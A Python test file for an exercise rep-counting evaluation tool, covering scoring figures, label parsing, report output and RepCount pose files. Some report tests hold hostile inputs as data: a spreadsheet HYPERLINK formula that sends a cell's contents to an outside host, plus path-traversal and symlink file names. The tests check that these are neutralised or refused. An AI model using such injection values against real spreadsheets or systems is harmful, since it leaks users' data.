"""The comparison with the truth: figures that were reckoned by hand, and no clip left out."""

from __future__ import annotations

import csv
import json
import multiprocessing
import threading
import time
from concurrent.futures import Future, ProcessPoolExecutor
from pathlib import Path

import numpy as np
import pytest

from gym.counting import COUNTERS
from gym.errors import Cancelled, GymError, LabelsError, PoseFileError
from gym.evaluation.evaluate import evaluate, open_pool
from gym.evaluation.labels import LabelledClip, read_labels
from gym.evaluation.repcount import read_repcount_labels
from gym.evaluation.report import write_report
from gym.evaluation.scores import match_bottoms, score_counts, with_interval
from gym.posefiles import write_poses
from gym.posefiles.repcount import FRAMES_PER_S, read_repcount
from gym.recognition.network import Recogniser
from gym.schema import J, PoseSequence
from tests.figure import STANDING
from tests.synthetic import Take, film, hold, push_up, squat

COUNTER = "heuristic"
HEADER = "id,file,exercise,reps\n"


def value(score: dict[str, object], name: str) -> float | None:
    return score[name]["value"]


# Figures ----------------------------------------------------------------------------------------


def test_figures_are_those_reckoned_by_hand() -> None:
    score = score_counts([0, 1, -3, 0], [10, 4, 6, 5])
    assert score["n"] == 4
    assert value(score, "mae") == 1.0  # (0 + 1 + 3 + 0) / 4
    assert value(score, "nmae") == 0.1875  # (0 + 1/4 + 3/6 + 0) / 4
    assert value(score, "obo") == 0.75
    assert value(score, "exact") == 0.5
    assert value(score, "bias") == -0.5  # (0 + 1 - 3 + 0) / 4


def test_a_clip_without_reps_has_a_normalised_error() -> None:
    assert value(score_counts([2], [0]), "nmae") == 2.0


def test_of_no_clips_nothing_is_known() -> None:
    score = score_counts([], [])
    assert score["n"] == 0
    assert score["mae"] == {"value": None, "interval": [None, None]}


def test_an_interval_holds_its_value_and_narrows_with_more_clips() -> None:
    values = [0, 0, 1, 0, 2, 0, 0, 1]
    few, many = with_interval(values), with_interval(values * 16)
    assert few["value"] == many["value"] == 0.5
    assert few["interval"][0] < 0.5 < few["interval"][1]
    width, narrow = np.diff(few["interval"])[0], np.diff(many["interval"])[0]
    assert narrow == pytest.approx(width / 4, rel=0.15)
    # The standard error of the mean is 0.25: +-1.96 of them, roughly, and never below 0.
    assert width == pytest.approx(2 * 1.96 * 0.25, rel=0.15)
    assert few == with_interval(values)


def test_unknown_values_do_not_count() -> None:
    assert with_interval([None, 1.0, float("nan"), 3.0])["value"] == 2.0
    assert with_interval([None, 2.0]) == {"value": 2.0, "interval": [2.0, 2.0]}


@pytest.mark.parametrize(
    ("found", "true", "reach", "matches"),
    [
        ([1.0, 2.0], [1.1, 2.1], [0.25, 0.25], 2),
        ([1.0, 1.1, 1.2], [1.1], [0.25], 1),  # three found, one there
        ([1.1], [1.0, 1.2], [0.25, 0.25], 1),  # one found cannot be both
        ([1.0, 1.4], [1.2, 0.9], [0.25, 0.25], 2),  # greedy in time would match 1.0 with 1.2
        ([0.5, 1.1], [1.0, 1.3], [0.15, 1.0], 2),  # nearest in sum would match only one
        ([1.0], [1.3], [0.25], 0),
        ([1.0], [1.3], [0.5], 1),
        ([], [1.0], [0.25], 0),
        ([1.0], [], [], 0),
    ],
)
def test_bottoms_match_one_to_one(
    found: list[float], true: list[float], reach: list[float], matches: int
) -> None:
    assert match_bottoms(found, true, reach) == matches


def test_the_nearer_of_two_right_counts_decides() -> None:
    clip = LabelledClip("a", Path("a.npz"), "squat", 12, 10, (), {}, "a")
    assert [clip.error_of(count) for count in (12, 10, 13, 8, 11)] == [0, 0, 1, -2, -1]


# Labels -----------------------------------------------------------------------------------------


def write_table(folder: Path, text: str, name: str = "labels.csv") -> Path:
    path = folder / name
    path.write_bytes(text.encode())
    return path


def test_a_table_is_read_whole(tmp_path: Path) -> None:
    table = write_table(
        tmp_path,
        "\ufeffid,file,exercise,reps,reps_alt,bottom_s,good,hollow,colour,group,notes\n"
        'a,clips/a.mp4,squat,2,3,1.5 3.25,1.5,,red,g1,"two\nlines"\n'
        "\n"
        " b , b.npz ,push_up,4.0\n"
        "c,c.mp4,other,0,,,,,,,,beyond,the header\n",
    )
    a, b, c = read_labels(table, tmp_path)
    assert (a.id, a.file, a.exercise) == ("a", tmp_path / "clips" / "a.mp4", "squat")
    assert (a.reps, a.reps_alt, a.bottom_s, a.group) == (2, 3, (1.5, 3.25), "g1")
    assert a.form == {"good": 1.5}  # an empty cell is not a 0
    assert (b.id, b.file, b.reps, b.reps_alt) == ("b", tmp_path / "b.npz", 4, None)
    assert (b.bottom_s, b.form, b.group, b.spans_s) == ((), {}, "b", ())
    assert c.reps == 0


def test_reps_beside_the_labels_give_their_spans(tmp_path: Path) -> None:
    write_table(tmp_path, "id,rep,start_s,end_s\na,1,0.5,1.5\na,2,2,3\nb,1,,\n", "reps.csv")
    a, b = read_labels(
        write_table(tmp_path, HEADER + "a,a.mp4,squat,2\nb,b.mp4,squat,1\n"), tmp_path
    )
    assert a.spans_s == ((0.5, 1.5), (2.0, 3.0))
    assert b.spans_s == ()


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("", "has no rows"),
        (HEADER, "has no rows"),
        ("id,file,exercise\na,a.mp4,squat\n", "lacks the column reps"),
        ("id;file;exercise;reps\na;a.mp4;squat;3\n", "lacks the column id"),
        (HEADER + "a,a.mp4,squat,3\nb,b.mp4,squat,three\n", "line 3: reps is 'three'"),
        (HEADER + "a,a.mp4,squat,nan\n", "line 2: reps is 'nan'"),
        (HEADER + "a,a.mp4,squat,-1\n", "line 2: reps is '-1'"),
        (HEADER + "a,a.mp4,squat,2.5\n", "line 2: reps is '2.5'"),
        (HEADER + "\n\na,a.mp4,squat,\n", "line 4: reps is empty"),
        (HEADER + "a\n", "line 2: file is empty"),
        ("id,file,exercise,reps,bottom_s\na,a,squat,1,1.0 x\n", "line 2: bottom_s is 'x'"),
        ("id,file,exercise,reps,good\na,a,squat,1,many\n", "line 2: good is 'many'"),
    ],
)
def test_an_unusable_table_is_refused(tmp_path: Path, text: str, complaint: str) -> None:
    with pytest.raises(LabelsError, match=complaint) as caught:
        read_labels(write_table(tmp_path, text), tmp_path)
    assert caught.value.message.startswith("labels.csv")
    assert "id, file, exercise, reps" in caught.value.advice


def test_an_unusable_table_of_reps_is_refused(tmp_path: Path) -> None:
    write_table(tmp_path, "id,start_s,end_s\na,early,1.5\n", "reps.csv")
    with pytest.raises(LabelsError, match=r"reps.csv, line 2: start_s is 'early'"):
        read_labels(write_table(tmp_path, HEADER + "a,a.mp4,squat,2\n"), tmp_path)


def test_what_is_no_table_is_refused(tmp_path: Path) -> None:
    (tmp_path / "labels.csv").write_bytes(b"\xff\xfe\x00\x01")
    for table in (tmp_path / "labels.csv", tmp_path / "none.csv", tmp_path):
        with pytest.raises(LabelsError, match="cannot be read as a table"):
            read_labels(table, tmp_path)


# Reports ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def squats() -> Take:
    return film([hold(STANDING, 1), *[squat()] * 2, hold(STANDING, 1)])


@pytest.fixture(scope="module")
def clips(tmp_path_factory: pytest.TempPathFactory, squats: Take) -> Path:
    """A folder of pose files: two squats, two push-ups, a damaged one."""
    folder = tmp_path_factory.mktemp("clips")
    write_poses(squats.poses, folder / "squat.npz")
    plank = push_up().at(0.0)
    write_poses(film([hold(plank, 1), *[push_up()] * 2, hold(plank, 1)]).poses, folder / "push.npz")
    (folder / "damaged.npz").write_bytes(b"PK but not for long")
    return folder


def label(folder: Path, *rows: str, header: str = HEADER) -> Path:
    """Write labels; a row is what stands below the header."""
    return write_table(folder, header + "".join(f"{row}\n" for row in rows))


def evaluate_rows(clips: Path, tmp_path: Path, *rows: str, **options: object) -> dict:
    header = options.pop("header", HEADER)
    return evaluate(label(tmp_path, *rows, header=header), clips, **options)


def test_a_right_count_has_no_error(clips: Path, tmp_path: Path) -> None:
    report = evaluate_rows(clips, tmp_path, "a,squat.npz,squat,2", "b,push.npz,push_up,2")
    assert set(report["methods"]) == set(COUNTERS)
    scores = report["methods"][COUNTER]
    assert list(scores) == ["all", "squat", "push_up"]
    assert scores["all"]["n"] == 2
    assert value(scores["all"], "mae") == 0
    assert value(scores["all"], "exact") == 1
    assert value(report["recognition"]["all"], "clip_accuracy") == 1
    assert [row["label"] for row in report["clips"]] == ["squat", "push_up"]
    assert all(row["error"] is None and row["seconds"] > 0 for row in report["clips"])
    assert report["exercise"] == "auto"


def test_errors_are_summed_up(clips: Path, tmp_path: Path) -> None:
    rows = ("a,squat.npz,squat,5,", "b,squat.npz,squat,2,", "c,squat.npz,squat,4,2")
    report = evaluate_rows(
        clips, tmp_path, *rows, header="id,file,exercise,reps,reps_alt\n", exercise="given"
    )
    score = report["methods"][COUNTER]["squat"]
    assert value(score, "mae") == 1.0
    assert value(score, "bias") == -1.0
    assert value(score, "nmae") == 0.2
    assert [row["reps_alt"] for row in report["clips"]] == [None, None, 2]
    assert report["exercise"] == "given"


def test_a_clip_that_fails_scores_as_none_counted(clips: Path, tmp_path: Path) -> None:
    report = evaluate_rows(
        clips, tmp_path, "a,damaged.npz,squat,6", "b,none.mp4,squat,4", "c,squat.npz,squat,2"
    )
    score = report["methods"][COUNTER]["squat"]
    assert score["n"] == 3
    assert value(score, "mae") == pytest.approx(10 / 3, abs=1e-4)
    assert value(report["recognition"]["squat"], "clip_accuracy") == pytest.approx(1 / 3, abs=1e-4)
    damaged, missing, whole = report["clips"]
    assert damaged["counts"] == missing["counts"] == dict.fromkeys(COUNTERS, 0)
    assert damaged["label"] is None
    assert "damaged.npz" in damaged["error"]
    assert "none.mp4" in missing["error"]
    assert whole["error"] is None


FORMULA = '=HYPERLINK("http://example.org/?"&A1,"squat")'


def test_the_table_of_clips_runs_no_formula_that_stood_in_the_labels(
    clips: Path, tmp_path: Path
) -> None:
    cell = FORMULA.replace('"', '""')
    table = write_table(tmp_path, HEADER + f'"{cell}",damaged.npz,squat,6\n+1,=a.npz,@squat,6\n')
    report = evaluate(table, clips)
    assert [row["id"] for row in report["clips"]] == [FORMULA, "+1"]
    write_report(report, tmp_path / "out")
    text = (tmp_path / "out" / "clips.csv").read_text()
    first, second = csv.DictReader(text.splitlines())
    assert first["id"] == "'" + FORMULA
    assert second["exercise"] == "'@squat"
    assert second["error"] == "'=a.npz does not exist."
    assert (second["id"], second["reps"]) == ("+1", "6")  # numbers stay numbers


@pytest.mark.parametrize("layout", ["clips", "repcount"])
def test_files_outside_the_root_are_refused_one_by_one(
    clips: Path, tmp_path: Path, layout: str
) -> None:
    root, outside = tmp_path / "root", tmp_path / "outside.npz"
    root.mkdir()
    for path in (root / "squat.npz", outside):
        path.write_bytes((clips / "squat.npz").read_bytes())
    (root / "link.npz").symlink_to(outside)
    (root / "folder").symlink_to(tmp_path)
    (root / "inner.npz").symlink_to("squat.npz")
    (root / "loop.npz").symlink_to("loop.npz")
    files = ("../outside.npz", outside, "link.npz", "folder/outside.npz")
    files += ("inner.npz", "squat.npz", "loop.npz")
    header = HEADER.replace("reps", "reps,start_frames,end_frames")
    rows = [f"{number},{file},squat,2" for number, file in enumerate(files)]
    table = label(tmp_path, *rows, header=header)
    report = evaluate(table, root, layout=layout)
    told = [row["error"] or "" for row in report["clips"]]
    assert told[:4] == [f"The file of line {n} lies outside the folder." for n in (2, 3, 4, 5)]
    assert not any("outside" in error for error in told[4:])
    if layout == "clips":
        assert told[4:6] == ["", ""]
        assert [row["counts"][COUNTER] for row in report["clips"]] == [0, 0, 0, 0, 2, 2, 0]


@pytest.mark.parametrize("layout", ["clips", "repcount"])
@pytest.mark.parametrize("row", ["b,squat\0.npz,squat,2", "\0b,squat.npz,squat,2"])
def test_a_nul_byte_costs_its_own_row_only(
    clips: Path, tmp_path: Path, row: str, layout: str
) -> None:
    header = HEADER.replace("reps", "reps,start_frames,end_frames")
    table = label(tmp_path, "a,squat.npz,squat,2", row, "c,squat.npz,squat,2", header=header)
    report = evaluate(table, clips, layout=layout)
    first, broken, last = report["clips"]
    assert broken["error"] == "Line 3 of the table holds a NUL byte."
    assert broken["counts"] == dict.fromkeys(COUNTERS, 0)
    assert first["error"] == last["error"] != broken["error"]
    write_report(report, tmp_path / "out")
    assert "\0" not in (tmp_path / "out" / "clips.csv").read_text()


def test_a_failed_clip_has_no_frame_right(clips: Path, tmp_path: Path, squats: Take) -> None:
    first = squats.full[0]
    spans = "".join(f"{name},{first.start_s},{first.end_s}\n" for name in "ab")
    write_table(tmp_path, "id,start_s,end_s\n" + spans, "reps.csv")
    report = evaluate_rows(
        clips,
        tmp_path,
        "a,squat.npz,squat,2",
        "b,damaged.npz,squat,2",
        "c,damaged.npz,squat,2",
        "d,squat.npz,squat,2",
    )
    right, failed, unknown, unlabelled = (row["frame_accuracy"] for row in report["clips"])
    assert right > 0.9
    assert failed == 0.0
    assert unknown is None  # no reps were labelled, so no frame was there to be right
    assert unlabelled is None
    mean = value(report["recognition"]["squat"], "frame_accuracy")
    assert mean == pytest.approx(right / 2, abs=1e-4)


def test_an_exercise_without_rules_is_counted_by_who_needs_none(
    clips: Path, tmp_path: Path
) -> None:
    rows = ("a,squat.npz,chair_stand,2", "b,squat.npz,other,2")
    chair_stand, other = evaluate_rows(clips, tmp_path, *rows, exercise="given")["clips"]
    for row in (chair_stand, other):  # only who needs no rules can count what has none
        assert {name for name, count in row["counts"].items() if count == 2} == {
            name for name, kind in COUNTERS.items() if kind.counts(None)
        }
        assert row["counts"]["heuristic"] == row["counts"]["learned"] == 0
    assert chair_stand["error"] is other["error"] is None
    assert chair_stand["label"] == "squat"  # what was recognised is told all the same
    chair_stand, _ = evaluate_rows(clips, tmp_path, *rows, exercise="auto")["clips"]
    assert chair_stand["counts"][COUNTER] == 2  # counted as what it was taken for


def test_an_unknown_exercise_is_rightly_called_other(tmp_path: Path) -> None:
    write_poses(film([hold(STANDING, 3)]).poses, tmp_path / "stand.npz")
    report = evaluate_rows(tmp_path, tmp_path, "a,stand.npz,chair_stand,0")
    assert report["clips"][0]["label"] == "other"
    assert value(report["recognition"]["chair_stand"], "clip_accuracy") == 1


def test_the_given_exercise_is_the_one_counted(clips: Path, tmp_path: Path) -> None:
    row = "a,push.npz,squat,2"
    (given,) = evaluate_rows(clips, tmp_path, row, exercise="given")["clips"]
    (auto,) = evaluate_rows(clips, tmp_path, row, exercise="auto")["clips"]
    assert given["label"] == auto["label"] == "push_up"
    assert given["counts"][COUNTER] == 0
    assert auto["counts"][COUNTER] == 2


def test_long_clips_are_reported_apart(clips: Path, tmp_path: Path) -> None:
    report = evaluate_rows(clips, tmp_path, "a,squat.npz,squat,41", "b,squat.npz,squat,40")
    assert report["methods"][COUNTER]["all"]["n"] == 1
    assert value(report["methods"][COUNTER]["all"], "mae") == 38
    assert report["long_clips"][COUNTER]["all"]["n"] == 1
    assert value(report["long_clips"][COUNTER]["all"], "mae") == 39
    assert len(report["clips"]) == 2


def test_found_bottoms_are_scored(clips: Path, tmp_path: Path, squats: Take) -> None:
    bottoms = [rep.bottom_s for rep in squats.full]
    rows = [
        f"a,squat.npz,squat,2,{bottoms[0]} {bottoms[1] + 0.1}",
        f"b,squat.npz,squat,3,{bottoms[0]} {bottoms[1]} 60",
    ]
    report = evaluate_rows(clips, tmp_path, *rows, header="id,file,exercise,reps,bottom_s\n")
    # 4 of 4 found bottoms are right, 4 of 5 true ones found: F1 = 2 * 4 / (4 + 5)
    assert report["methods"][COUNTER]["all"]["event_f1"] == pytest.approx(8 / 9, abs=1e-4)


def test_form_is_compared_and_nothing_judged_is_nothing_found(clips: Path, tmp_path: Path) -> None:
    header = "id,file,exercise,reps,shallow,good,forward_lean\n"
    report = evaluate_rows(
        clips, tmp_path, "a,squat.npz,squat,2,0,,", "b,damaged.npz,squat,4,1,3,", header=header
    )
    whole, failed = (row["form_error"] for row in report["clips"])
    assert whole == {"shallow": 0}
    assert failed == {"shallow": 1, "good": 3}
    assert report["form"]["squat"]["shallow"]["n"] == 2
    assert value(report["form"]["squat"]["shallow"], "mae") == 0.5
    assert "forward_lean" not in report["form"]["squat"]


def test_two_workers_find_what_one_finds(clips: Path, tmp_path: Path) -> None:
    rows = ("a,squat.npz,squat,3", "b,damaged.npz,squat,1", "c,push.npz,push_up,2")
    heard: list[tuple[int, int, str]] = []
    reports = []
    for workers in (1, 2):
        with open_pool(workers) as pool:
            report = evaluate_rows(
                clips,
                tmp_path,
                *rows,
                executor=pool,
                on_clip=lambda done, total, result: heard.append((done, total, result.clip.id)),
            )
        reports.append(report)
    one, two = reports
    for row in (*one["clips"], *two["clips"]):
        del row["seconds"]
    assert one == two
    assert heard == [(1, 3, "a"), (2, 3, "b"), (3, 3, "c")] * 2


def test_a_long_clip_is_heard_of_before_it_ends(squat_clip: Path, pose_model: str) -> None:
    root = squat_clip.parent
    labels = root / "labels.csv"
    labels.write_text(f"id,file,exercise,reps\na,{squat_clip.name},squat,1\n")
    for workers in (1, 2):
        heard: list[str] = []
        with open_pool(workers) as pool:
            evaluate(
                labels,
                root,
                executor=pool,
                on_clip=lambda *_, heard=heard: heard.append("clip"),
                on_frame=lambda heard=heard: heard.append("frame"),
            )
        assert heard[0] == "frame"
        assert heard[-1] == "clip"


def test_a_process_that_is_killed_is_told(clips: Path, tmp_path: Path) -> None:
    def kill_one() -> None:
        for _ in range(3000):
            for child in multiprocessing.active_children():
                child.kill()
                return
            time.sleep(0.01)

    killer = threading.Thread(target=kill_one)
    killer.start()
    rows = ("a,squat.npz,squat,2", "b,push.npz,push_up,2")
    with pytest.raises(GymError, match="ended from outside"), open_pool(2) as pool:
        evaluate_rows(clips, tmp_path, *rows, executor=pool)
    killer.join()


@pytest.mark.parametrize("fault", [ValueError("bad value(s) in fds_to_keep"), OSError(9, "closed")])
def test_a_process_that_ends_while_another_is_started_is_told(
    clips: Path, tmp_path: Path, fault: Exception, monkeypatch
) -> None:
    def submit(*_, **__) -> Future:
        raise fault  # as seen where the first of two processes was killed at once

    monkeypatch.setattr(ProcessPoolExecutor, "submit", submit)
    with pytest.raises(GymError, match="ended from outside"), open_pool(2) as pool:
        evaluate_rows(clips, tmp_path, "a,squat.npz,squat,2", executor=pool)


def test_work_that_is_stopped_leaves_the_clips_that_wait() -> None:
    waiting: list[Future] = []

    def stop() -> None:
        with open_pool(2) as pool:
            waiting.extend(pool.submit(time.sleep, 0.1) for _ in range(100))
            raise Cancelled

    with pytest.raises(Cancelled):
        stop()
    assert waiting[-1].cancelled()


def test_a_clip_is_recognised_and_counted_once(
    clips: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[str] = []

    def note(counter: object, finish=COUNTERS[COUNTER].finish):
        calls.append(COUNTER)
        return finish(counter)

    def classify(recogniser: object, poses: PoseSequence, classify=Recogniser.classify):
        calls.append("recogniser")
        return classify(recogniser, poses)

    monkeypatch.setattr(COUNTERS[COUNTER], "finish", note)
    monkeypatch.setattr(Recogniser, "classify", classify)
    evaluate_rows(clips, tmp_path, "a,squat.npz,squat,2", exercise="given")
    assert calls == ["recogniser", COUNTER]


def test_a_missing_folder_is_refused(clips: Path, tmp_path: Path) -> None:
    with pytest.raises(LabelsError, match="There is no folder"):
        evaluate(label(tmp_path, "a,squat.npz,squat,2"), tmp_path / "none")


def test_the_report_is_written_as_agreed(clips: Path, tmp_path: Path) -> None:
    header = "id,file,exercise,reps,shallow\n"
    report = evaluate_rows(
        clips, tmp_path, "a,squat.npz,squat,2,0", "b,damaged.npz,squat,1,", header=header
    )
    write_report(report, tmp_path / "new" / "out")
    written = json.loads((tmp_path / "new" / "out" / "report.json").read_text())
    assert written == report
    for score in written["methods"][COUNTER].values():
        assert {"n", "mae", "nmae", "obo", "exact", "bias"} <= set(score)
        for name in ("mae", "nmae", "obo", "exact", "bias"):
            assert set(score[name]) == {"value", "interval"}
            assert len(score[name]["interval"]) == 2
    assert {"clip_accuracy", "frame_accuracy"} <= set(written["recognition"]["all"])
    for row in written["clips"]:
        assert {"id", "exercise", "reps", "counts", "label", "seconds", "error"} <= set(row)
    with (tmp_path / "new" / "out" / "clips.csv").open(newline="") as lines:
        a, b = csv.DictReader(lines)
    assert (a["id"], a["reps"], a[f"count_{COUNTER}"], a["error"]) == ("a", "2", "2", "")
    assert (b["id"], b["label"], b[f"count_{COUNTER}"]) == ("b", "", "0")
    assert float(a["form_error_shallow"]) == 0
    assert b["form_error_shallow"] == ""


# RepCount ---------------------------------------------------------------------------------------

REPCOUNT_HEADER = "id,file,exercise,reps,start_frames,end_frames,frames,group\n"


def to_repcount(poses: PoseSequence) -> np.ndarray:
    """Normalise poses as RepCount's publishers did: min to max of each axis, frame by frame."""
    points = np.concatenate([poses.xy_px, poses.xyz_m[..., 2:]], axis=-1)
    low, high = points.min(axis=1, keepdims=True), points.max(axis=1, keepdims=True)
    return ((points - low) / (high - low)).astype(np.float32)


def test_repcount_poses_go_through_the_adapter(tmp_path: Path, squats: Take) -> None:
    stored = to_repcount(squats.poses)
    stored[3:6] = 0
    np.save(tmp_path / "a.npy", stored)
    poses = read_repcount(tmp_path / "a.npy")
    assert isinstance(poses, PoseSequence)
    assert poses.time_s[30] == pytest.approx(1.0)
    assert not poses.seen[3:6].any()
    assert poses.seen.sum() == len(stored) - 3
    assert np.isnan(poses.xyz_m[3:6]).all()
    assert (poses.visibility[3:6] == 0).all()
    assert (poses.visibility[6:] == 1).all()
    assert poses.xy_px[0].max() == pytest.approx(poses.image_size[0])


def test_repcount_labels_give_spans_in_seconds(tmp_path: Path) -> None:
    table = label(tmp_path, "a,poses/a.npy,squat,2,30 90,60 120,150,g", header=REPCOUNT_HEADER)
    (clip,) = read_repcount_labels(table, tmp_path)
    assert (clip.file, clip.reps, clip.group) == (tmp_path / "poses" / "a.npy", 2, "g")
    assert clip.spans_s == ((1.0, 2.0), (3.0, 4.0))
    assert FRAMES_PER_S == 30


@pytest.mark.parametrize(
    ("row", "complaint"),
    [
        ("a,a.npy,squat,2,30,60 120", "line 2: 1 start_frames, but 2 end_frames"),
        ("a,a.npy,squat,2,x,60", "line 2: start_frames is 'x'"),
        ("a,a.npy", "line 2: exercise is empty"),
    ],
)
def test_unusable_repcount_labels_are_refused(tmp_path: Path, row: str, complaint: str) -> None:
    with pytest.raises(LabelsError, match=complaint):
        read_repcount_labels(label(tmp_path, row, header=REPCOUNT_HEADER), tmp_path)


def test_what_is_no_repcount_file_is_refused(tmp_path: Path, squats: Take) -> None:
    path = tmp_path / "a.npy"
    with pytest.raises(PoseFileError, match=r"no file a\.npy"):
        read_repcount(path)
    path.write_bytes(b"nothing")
    with pytest.raises(PoseFileError, match="damaged"):
        read_repcount(path)
    write_poses(squats.poses, path)  # a pose file of ours
    with pytest.raises(PoseFileError, match="damaged, or not a pose file"):
        read_repcount(path)
    for stored in (np.zeros((4, J, 2)), np.zeros((0, J, 3)), np.float32(3), np.array(["a"])):
        np.save(path, stored)
        with pytest.raises(PoseFileError, match="is not a RepCount pose file"):
            read_repcount(path)
    for frames, told in ((10**12, "longer than 20 minutes"), (36_000, "damaged")):
        with path.open("wb") as file:  # what is announced is not there
            about = {"descr": "<f4", "fortran_order": False, "shape": (frames, J, 3)}
            np.lib.format.write_array_header_1_0(file, about)
        with pytest.raises(PoseFileError, match=told):
            read_repcount(path)


def test_repcount_clips_are_evaluated(tmp_path: Path, squats: Take) -> None:
    np.save(tmp_path / "a.npy", to_repcount(squats.poses))
    np.save(tmp_path / "b.npy", np.zeros((90, J, 3), np.float32))  # nobody was ever found
    table = label(tmp_path, "a,a.npy,squat,2,30,60", "b,b.npy,squat,1,0,30", header=REPCOUNT_HEADER)
    report = evaluate(table, tmp_path, layout="repcount", exercise="given")
    a, b = report["clips"]
    assert a["error"] is None
    assert b["counts"] == dict.fromkeys(COUNTERS, 0)
    assert b["frame_accuracy"] == 0.0
    assert report["format"] == "repcount"


def test_the_recorded_tables_are_read(data_folder: Path) -> None:
    clips = read_labels(data_folder / "clips" / "labels.csv", data_folder / "clips")
    assert len(clips) == 24
    assert all(clip.file.is_file() and len(clip.spans_s) == clip.reps for clip in clips)
    folder = data_folder / "repcount_pose"
    recorded = read_repcount_labels(folder / "labels.csv", folder)
    assert len(recorded) == 62
    assert all(len(clip.spans_s) == clip.reps for clip in recorded)
    poses = read_repcount(recorded[0].file)
    assert poses.xy_px.shape[1:] == (J, 2)
